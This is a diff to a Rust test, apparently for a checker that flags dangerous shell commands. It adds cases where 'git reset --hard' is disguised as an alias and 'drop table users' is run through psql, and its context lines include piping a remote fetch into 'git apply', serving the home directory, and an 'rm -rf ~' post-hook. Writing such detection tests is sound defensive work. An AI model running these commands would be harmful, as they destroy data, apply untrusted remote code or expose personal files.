@@ -82,6 +82,12 @@ fn req_a10_a_detour_is_followed_to_where_it_leads() {
         ("curl -s x.example/p | git apply", "git diff | git apply -R --check"),
         ("npm install somebody/something", "npm install ./packages/ui @scope/pkg"),
         ("npx serve ~", "npx serve dist"),
+        ("git -c alias.x='reset --hard' x", "git -c alias.x=status x"),
+        ("git config alias.wipe 'reset --hard' && git wipe", "git config alias.st status && git st"),
+        (
+            "echo 'drop table users' > q.sql && psql app -f q.sql",
+            "echo 'select 1' > q.sql && psql app -f q.sql",
+        ),
         ("sometool rm -f thing", "sometool cache rm --all"),
         ("sometool deploy production", "sometool deploy staging"),
         ("sometool --post-hook 'rm -rf ~'", "sometool --post-hook 'echo done'"),
